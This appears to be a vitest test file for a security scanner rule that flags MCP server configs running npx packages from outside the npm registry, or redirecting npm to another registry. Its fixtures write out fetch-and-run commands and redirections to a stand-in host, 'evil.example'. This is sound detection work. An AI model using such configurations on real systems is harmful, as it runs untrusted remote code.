import { describe, expect, it } from "vitest";
import { configFindings, configTable, npx, remote } from "../../test/support/config.js";
import nonRegistry from "./config-non-registry-package.js";

configTable(nonRegistry, [
  ["registry package", npx("pkg@1.0.0"), 0],
  ["https tarball", npx("https://example.com/x.tgz"), 1],
  ["http tarball", npx("http://example.com/x.tgz"), 1],
  ["github shorthand", npx("github:o/r"), 1],
  ["owner/repo", npx("o/r"), 1],
  ["git url", npx("git+https://example.com/x.git"), 1],
  ["local folder", npx("./server"), 1],
  ["inside bash -lc", { command: "bash", args: ["-lc", "npx -y github:o/r"] }, 1],
  ["behind env", { command: "env", args: ["A=1", "npx", "-y", "https://example.com/x.tgz"] }, 1],
  ["remote server", remote("https://x.example/mcp"), 0],
]);

describe("config-non-registry-package", () => {
  it("grades plain http critical, a local folder medium", () => {
    expect(configFindings(nonRegistry, { s: npx("http://example.com/x.tgz") })[0]?.severity).toBe("critical");
    expect(configFindings(nonRegistry, { s: npx("./server") })[0]?.severity).toBe("medium");
    expect(configFindings(nonRegistry, { s: npx("github:o/r") })[0]?.severity).toBe("high");
  });
});

describe("config-non-registry-package: another registry", () => {
  it.each([
    ["--registry flag", { command: "npx", args: ["--registry", "https://evil.example/", "-y", "pkg@1.0.0"] }],
    ["--registry=", { command: "npx", args: ["--registry=https://evil.example/", "-y", "pkg@1.0.0"] }],
    [
      "npm_config_registry",
      { command: "npx", args: ["-y", "pkg@1.0.0"], env: { npm_config_registry: "https://evil.example/" } },
    ],
    [
      "a scoped registry",
      {
        command: "npx",
        args: ["-y", "pkg@1.0.0"],
        env: { "NPM_CONFIG_@acme:registry": "https://evil.example/" },
      },
    ],
    ["--userconfig", { command: "npx", args: ["--userconfig", "/tmp/npmrc", "-y", "pkg@1.0.0"] }],
  ])("%s", (_n, server) => {
    expect(configFindings(nonRegistry, { s: server })[0]?.title).toMatch(/from another registry/);
  });
});
